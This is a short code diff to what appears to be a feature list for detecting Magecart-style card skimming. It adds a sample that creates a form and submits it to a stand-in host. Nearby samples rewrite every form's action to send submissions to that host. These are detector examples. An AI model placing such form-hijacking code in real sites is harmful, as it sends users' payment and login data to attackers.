@@ -335,7 +335,10 @@ export const magecartFeatures: readonly Feature[] = [
         `for (const form of document.forms) form.action = 'https://x.test/p';`,
         `document.addEventListener('submit', (e) => { e.target.action = 'https://x.test/p'; });`,
       ],
-      other: [`document.querySelector('form.search').action = 'https://x.test/p';`],
+      other: [
+        `document.querySelector('form.search').action = 'https://x.test/p';`,
+        `function make() { const form = document.createElement('form'); form.method = 'post'; return form; } const form = make(); form.action = 'https://x.test/p'; form.submit();`,
+      ],
     },
   },
   {
